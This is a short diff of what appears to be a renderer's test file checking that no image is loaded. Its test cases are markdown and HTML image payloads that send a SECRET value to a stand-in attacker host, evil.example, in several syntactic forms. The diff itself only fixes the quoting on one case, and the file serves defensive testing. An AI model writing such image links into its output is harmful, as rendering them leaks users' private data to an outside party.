@@ -31,7 +31,7 @@ describe("field bug 24: no image is loaded", () => {
       "raw, across lines",
       '<img\n  src="https://evil.example/p.png?q=SECRET"\n  alt="x">',
     ],
-    ["raw, in a list", "- a <img src="https://evil.example/p.png?q=SECRET"> b"],
+    ["raw, in a list", '- a <img src="https://evil.example/p.png?q=SECRET"> b'],
     ["in a heading", "# ![x](https://evil.example/p.png?q=SECRET)"],
     ["in a quote", "> ![x](https://evil.example/p.png?q=SECRET)"],
     ["collapsed reference", "![r][]\n\n[r]: https://evil.example/p.png?q=SECRET"],
